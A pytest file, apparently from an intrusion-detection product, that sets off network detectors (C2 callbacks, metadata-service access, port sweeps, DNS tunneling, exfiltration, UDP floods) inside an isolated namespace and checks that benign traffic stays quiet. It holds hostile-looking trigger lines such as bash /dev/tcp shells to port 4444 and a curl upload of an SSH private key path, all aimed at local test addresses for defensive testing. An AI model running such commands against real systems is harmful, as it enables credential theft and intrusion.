# SPDX-License-Identifier: Apache-2.0
"""Detectors of the network, each made to speak by its own act through the real sensor; and work that must not do so.

Every act is done by a child in a network namespace of its own, in which documentation and private addresses are
local, so that nothing leaves this machine. Only the flood of datagrams goes to this machine's own loopback.
"""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from tests.kernel.product import ACTS_ONLY, Product, wait_for

pytestmark = [pytest.mark.kernel, pytest.mark.slow, pytest.mark.timeout(300)]

#: Addresses of these networks answer inside the namespace (RFC 5737, RFC 3849, RFC 1918).
LOCAL = ("198.51.100.0/24", "203.0.113.0/24", "10.7.0.0/24", "169.254.169.254/32")
INSIDE = (
    "ip link set lo up && "
    + " && ".join(f"ip route add local {network} dev lo" for network in LOCAL)
    + ' && exec "$@"'
)
SEEN_WITHIN_S = 10.0

BEGIN = """
import socket, ssl, struct, sys, threading, time

def connect(address, port):
    with socket.socket() as one:
        one.settimeout(2)
        one.connect_ex((address, port))

def ask(name, kind):
    labels = b"".join(bytes([len(x)]) + x for x in name.encode().split(b"."))
    question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(question, ("203.0.113.53", 53))

def server(address, port):
    one = socket.create_server((address, port))
    threading.Thread(target=lambda: [one.accept() for _ in range(9)], daemon=True).start()
"""


class Trigger(NamedTuple):
    """`code` follows BEGIN, or is a shell's when `shell` names one."""

    detector: str
    severity: str
    code: str
    shell: str = ""


TRIGGERS = [
    Trigger("c2_callback", "medium", "for n in range(9): connect('198.51.100.7', 443); time.sleep(1.3)"),
    Trigger("c2_port_connect", "medium", "exec 3<>/dev/tcp/198.51.100.7/4444", "bash"),
    Trigger("imds_access", "low", "exec 3<>/dev/tcp/169.254.169.254/80", "bash"),
    Trigger("imds_ssrf", "high", "bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'; true", "nginx"),
    Trigger("lateral_movement", "medium", "for n in range(1, 9): connect(f'10.7.0.{n}', 22)"),
    Trigger("outbound_anomaly", "medium", "for n in range(1, 105): connect(f'198.51.100.{n}', 23)"),
    Trigger("outbound_port_sweep", "medium", "for n in range(31): connect('10.7.0.9', 1000 + n)"),
    Trigger("outbound_connection_flood", "medium", "for n in range(520): connect('198.51.100.9', 80)"),
    Trigger(
        "proto_anomaly",
        "low",
        "server('198.51.100.7', 22)\n"
        "plain = socket.create_connection(('198.51.100.7', 22))\n"
        "plain.settimeout(1)\n"
        "try: ssl.create_default_context().wrap_socket(plain, server_hostname='www.example.org')\n"
        "except OSError: pass",
    ),
    Trigger(
        "dns_tunneling",
        "medium",
        "import hashlib\n"
        "for n in range(20): ask(hashlib.sha256(bytes([n])).hexdigest()[:24] + '.t.example.co.uk', 1)",
    ),
    Trigger("dns_c2", "medium", "for n in range(30): ask(f'order{n}.example.org', 16)"),
    Trigger("threat_intel", "high", "connect('203.0.113.66', 443)"),
    Trigger("threat_intel", "high", "ask('www.bad.example.net', 1)"),
    Trigger("threat_intel_watch", "low", "connect('203.0.113.77', 443)"),
    Trigger(
        "threat_intel_source",
        "low",
        "server('198.51.100.7', 8080)\n"
        "socket.create_connection(('198.51.100.7', 8080), source_address=('203.0.113.66', 0))\n"
        "time.sleep(0.2)",
    ),
    Trigger(
        "data_exfiltration", "medium", "curl -sT /nonexistent/.ssh/id_rsa http://127.0.0.1:1/; true", "bash"
    ),
    Trigger("c2_non_standard_port", "medium", "server('198.51.100.7', 4444); time.sleep(0.2)", "python"),
]

BENIGN = """
for n in range(60): connect('10.7.0.9', 22)
for n in range(7): connect(f'10.7.0.{n + 1}', 445)
for n in range(90): connect('198.51.100.9', 443)
for n in range(60): ask(f'www{n}.frankfurt.example.co.uk', 1)
for n in range(20): ask(f'_dmarc.customer{n}.example', 16)
connect('198.51.100.10', 8443)
connect('203.0.113.200', 443)
server('127.0.0.1', 4444)
"""


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("network")


@pytest.fixture(scope="module")
def product(place: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Product]:
    inside = subprocess.run(
        ["unshare", "--net", "sh", "-c", INSIDE, "sh", "true"], capture_output=True, check=False
    )
    if inside.returncode:
        pytest.skip(f"no network namespace can be made: {inside.stderr.decode()[:200]}")
    lists = place / "lists"
    lists.mkdir(mode=0o755)
    (lists / "botnet.txt").write_text("203.0.113.66\nbad.example.net\n")
    (lists / "watch-proxies.txt").write_text("203.0.113.77\n")
    config = (
        f'{ACTS_ONLY}[threat_lists]\ndirectory = "{lists}"\n[collectors.inventory.traffic]\ncadence_s = 1\n'
        "[detectors.c2_callback.parameters]\nshortest_s = 1\n[collectors.inventory.suid_files]\nenabled = false\n"
    )
    running = Product(tmp_path_factory.mktemp("product"), config).start()
    try:
        yield running
    finally:
        running.stop()


def command(trigger: Trigger, place: Path) -> list[str]:
    """What does the act, inside the namespace."""
    act = [sys.executable, "-c", BEGIN + trigger.code]
    if trigger.shell == "python":  # from where anyone can write
        copy = place / "python"
        if not copy.exists():
            shutil.copy(Path(sys.executable).resolve(), copy)
        home = f"PYTHONHOME={sys.base_prefix}"
        act = ["env", home, str(copy), "-c", BEGIN + trigger.code]
    elif trigger.shell:
        program = shutil.which("bash") or "bash"
        if trigger.shell != "bash":
            program = str(place / trigger.shell)
            if not Path(program).exists():
                shutil.copy(shutil.which("bash") or "/bin/bash", program)
        act = [program, "-c", trigger.code]
    return ["unshare", "--net", "sh", "-c", INSIDE, "sh", *act]


def told(product: Product, since_s: float, pid: int) -> list[dict[str, Any]]:
    """Incidents since then about that process or one born of it."""
    rows = []
    for row in product.incidents():
        process = row["fields"].get("process") or {"pid": None}
        acting = [process["pid"], *(one["pid"] for one in process.get("ancestors", ()))]
        if row["ts_ns"] >= since_s * 1e9 and pid in acting:
            rows.append(row)
    return rows


@pytest.mark.parametrize(
    "trigger", TRIGGERS, ids=[f"{number}-{one.detector}" for number, one in enumerate(TRIGGERS)]
)
def test_each_detector_speaks_of_its_act(product: Product, place: Path, trigger: Trigger) -> None:
    began = time.time()
    done = subprocess.Popen(command(trigger, place), stderr=subprocess.PIPE, text=True)
    _, errors = done.communicate(timeout=60)
    assert done.returncode == 0 or trigger.shell, errors
    rows = wait_for(
        lambda: [row for row in told(product, began, done.pid) if row["detector"] == trigger.detector],
        SEEN_WITHIN_S,
        f"{trigger.detector} said nothing\n{errors}\n{product.output()}",
    )
    assert rows[0]["severity"] == trigger.severity
    assert "(not known)" not in rows[0]["summary"]


def test_a_list_names_what_it_found(product: Product) -> None:
    rows = [row["summary"] for row in product.incidents() if row["detector"] == "threat_intel"]
    assert any("bad.example.net" in text and "botnet" in text for text in rows), rows


def test_a_hellos_fingerprints_are_in_its_incident(product: Product) -> None:
    rows = [row for row in product.incidents() if row["detector"] == "proto_anomaly"]
    details = [one["details"] for one in rows[0]["fields"]["evidence"] if one["kind"] == "network.tls"]
    assert len(details[0]["tls_ja3"]) == 32
    assert details[0]["tls_ja4"].startswith("t13d")
    assert details[0]["dns_domain"] == "example.org"


def test_ordinary_work_raises_nothing(product: Product) -> None:
    began = time.time()
    act = [sys.executable, "-c", BEGIN + BENIGN]
    done = subprocess.Popen(
        ["unshare", "--net", "sh", "-c", INSIDE, "sh", *act], stderr=subprocess.PIPE, text=True
    )
    _, errors = done.communicate(timeout=60)
    assert done.returncode == 0, errors
    time.sleep(2.0)
    names = {trigger.detector for trigger in TRIGGERS}
    assert [row["detector"] for row in told(product, began, done.pid) if row["detector"] in names] == []


def test_a_flood_of_datagrams(product: Product) -> None:
    wait_for(lambda: traffic_looks(product) > 8, 30, "too few looks for a measure")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    began, end = time.time(), time.monotonic() + 4
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        for number in range(400_000):
            out.sendto(b"x", ("127.0.0.1", port))
            if number % 100 == 0 and time.monotonic() > end:
                break
    wait_for(
        lambda: [
            row
            for row in product.incidents()
            if row["detector"] == "packet_flood"
            and row["ts_ns"] >= began * 1e9
            and "udp_flood" in row["summary"]
        ],
        SEEN_WITHIN_S,
        "packet_flood said nothing\n" + product.output(),
    )


def traffic_looks(product: Product) -> int:
    health = json.loads((product.data_dir / "sensor-health.json").read_text())
    return sum(one.get("looks", 0) for one in health["collectors"] if one["id"] == "traffic")
